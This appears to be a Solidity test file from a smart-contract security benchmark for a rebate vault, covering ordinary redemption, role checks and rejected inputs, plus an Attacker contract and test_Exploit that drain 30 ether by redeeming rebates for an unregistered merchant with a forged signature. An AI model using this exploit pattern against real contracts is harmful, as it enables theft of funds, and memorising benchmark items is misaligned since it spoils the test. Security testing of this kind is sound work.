// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {Strings} from "@openzeppelin/contracts@4.9.6/utils/Strings.sol";
import "./RebateVault.sol";

// assay-canary-93f14696-3729-4784-9bc1-28ed1fd824ef

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

/// Redeems rebates of a merchant that does not exist.
contract Attacker {
    RebateVault internal vault;

    constructor(RebateVault vault_) {
        vault = vault_;
    }

    receive() external payable {}

    function run() external {
        for (uint64 serial = 1; serial <= 10; ++serial) {
            IRebateVault.Rebate memory rebate =
                IRebateVault.Rebate(4040, serial, type(uint64).max, address(this), 3 ether);
            vault.redeem(rebate, IRebateVault.Signature(0, bytes32(uint256(1)), bytes32(uint256(1))));
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0xCA54;
    uint64 internal constant START = 1_700_000_000;
    address internal constant CUSTOMER = address(0xC057);
    address internal constant MANAGER = address(0x3A4A);

    RebateVault internal vault;
    Attacker internal outsider;

    function setUp() public {
        vm.warp(START);
        vault = new RebateVault(address(this));
        vault.initialize(MANAGER);
        vm.deal(address(this), 60 ether);
        vm.prank(MANAGER);
        vault.setSigner(7, vm.addr(KEY));
        (bool success, ) = address(vault).call{value: 30 ether}("");
        require(success, "funded");
        outsider = new Attacker(vault);
    }

    function _signed(IRebateVault.Rebate memory rebate, uint256 key) private returns (IRebateVault.Signature memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, vault.hashRebate(rebate));
        return IRebateVault.Signature(v, r, s);
    }

    function test_Regular() public {
        IRebateVault.Rebate memory rebate = IRebateVault.Rebate(7, 1, START + 7 days, CUSTOMER, 2 ether);
        vault.redeem(rebate, _signed(rebate, KEY));
        require(CUSTOMER.balance == 2 ether && vault.billOf(7) == 2 ether, "paid and billed");
        require(vault.isRedeemed(7, 1) && !vault.isRedeemed(7, 2), "marked");
        vault.settle{value: 1.5 ether}(7);
        require(vault.billOf(7) == 0.5 ether, "settled");
        vm.prank(MANAGER);
        vault.withdraw(MANAGER, 5 ether);
        require(address(vault).balance == 24.5 ether, "withdrawn");
        bytes32 role = vault.MANAGER_ROLE();
        vault.grantRole(role, CUSTOMER);
        vault.revokeRole(role, MANAGER);
        vm.prank(CUSTOMER);
        vault.renounceRole(role, CUSTOMER);
        require(!vault.hasRole(role, CUSTOMER) && !vault.hasRole(role, MANAGER), "roles");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, who does not have this role.
    function refusesRole(address who, bytes32 role) internal {
        string memory account = Strings.toHexString(who);
        string memory id = Strings.toHexString(uint256(role), 32);
        refuses(who, bytes(string.concat("AccessControl: account ", account, " is missing role ", id)));
    }

    function test_RefusesStrangers() public {
        bytes32 role = vault.MANAGER_ROLE();
        refusesRole(CUSTOMER, role);
        vault.setSigner(7, CUSTOMER);
        refusesRole(CUSTOMER, role);
        vault.withdraw(CUSTOMER, 1);
        refusesRole(MANAGER, bytes32(0));
        vault.grantRole(role, CUSTOMER);
        refusesRole(MANAGER, bytes32(0));
        vault.revokeRole(role, MANAGER);
        refuses(CUSTOMER, "AccessControl: can only renounce roles for self");
        vault.renounceRole(role, MANAGER);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("RebateVault: zero admin");
        new RebateVault(address(0));
        RebateVault fresh = new RebateVault(address(this));
        vm.expectRevert("RebateVault: zero manager");
        fresh.initialize(address(0));
        refusesRole(CUSTOMER, bytes32(0));
        fresh.initialize(CUSTOMER);
        vm.expectRevert("Initializable: contract is already initialized");
        vault.initialize(CUSTOMER);
    }

    function test_RefusesRebates() public {
        IRebateVault.Rebate memory rebate = IRebateVault.Rebate(7, 1, START, CUSTOMER, 1 ether);
        IRebateVault.Signature memory signature = _signed(rebate, 0xBAD);
        vm.expectRevert("RebateVault: invalid signature");
        vault.redeem(rebate, signature);
        signature = _signed(rebate, KEY);
        uint256 order = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;
        bytes32 other = bytes32(order - uint256(signature.s));
        vm.expectRevert("RebateVault: invalid signature");
        vault.redeem(rebate, IRebateVault.Signature(signature.v == 27 ? 28 : 27, signature.r, other));
        vm.warp(START + 1);
        vm.expectRevert("RebateVault: expired");
        vault.redeem(rebate, signature);
        vm.warp(START);
        vault.redeem(rebate, signature);
        vm.expectRevert("RebateVault: already redeemed");
        vault.redeem(rebate, signature);
        (rebate.serial, rebate.amount) = (2, 3 ether + 1);
        signature = _signed(rebate, KEY);
        vm.expectRevert("RebateVault: amount too large");
        vault.redeem(rebate, signature);
        (rebate.payee, rebate.amount) = (address(0), 1 ether);
        signature = _signed(rebate, KEY);
        vm.expectRevert("RebateVault: zero payee");
        vault.redeem(rebate, signature);
    }

    function test_RefusesPayments() public {
        vm.expectRevert("RebateVault: wrong amount");
        vault.settle(7);
        vm.expectRevert("RebateVault: wrong amount");
        vault.settle{value: 1}(7);
        refuses(MANAGER, "RebateVault: payment failed");
        vault.withdraw(MANAGER, 31 ether);
    }

    function exploit() public {
        outsider.run();
    }

    function test_Exploit() public {
        uint256 before = address(outsider).balance;
        exploit();
        require(address(outsider).balance >= before + 30 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
